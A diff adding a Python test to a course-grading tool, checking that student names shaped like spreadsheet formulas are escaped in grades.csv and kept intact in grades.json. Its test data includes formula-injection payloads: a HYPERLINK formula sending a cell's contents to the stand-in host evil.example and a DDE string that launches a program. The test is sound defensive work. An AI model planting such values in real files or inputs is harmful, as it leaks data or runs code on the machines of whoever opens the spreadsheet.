@@ -429,3 +429,20 @@ def test_gradescope_grades_no_symbolic_link(tmp_path, assigned, monkeypatch):
     monkeypatch.setattr(gradescope, "_graded_row", lambda *args: pytest.fail("a link was graded"))
     report = gradescope.run(source, submission, tmp_path / "results.json")
     assert report["score"] == 0 and "No .ipynb file was submitted" in report["output"]
+
+
+def test_a_name_that_starts_like_a_formula_is_written_as_text(tmp_path):
+    """A student names their file (or a folder) `=HYPERLINK(...)` or `-2+3+cmd|' calc'!A0`: a spreadsheet opening
+    grades.csv would run it. Such a cell gets a leading apostrophe; grades.json keeps the name as it was."""
+    import csv
+
+    from dpo_teach.grading.reports import empty_row, write_reports
+
+    names = ['=HYPERLINK("https://evil.example?"&B2;"open")', "-2+3+cmd|' calc'!A0", "@SUM(1)", "+1", "ann"]
+    rows = [empty_row(name, tmp_path / f"{name}_01_kl_objective.ipynb", None, "error", "cannot tell") for name in names]
+    write_reports({"assignments": {}, "results": rows, "students": {}}, tmp_path)
+    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as f:
+        written = list(csv.DictReader(f))
+    assert [r["student"] for r in written] == ["'" + n for n in names[:4]] + ["ann"]
+    assert all(r["file"].startswith(str(tmp_path)) for r in written)  # a path: it starts with no formula
+    assert [r["student"] for r in json.loads((tmp_path / "grades.json").read_text())["results"]] == names
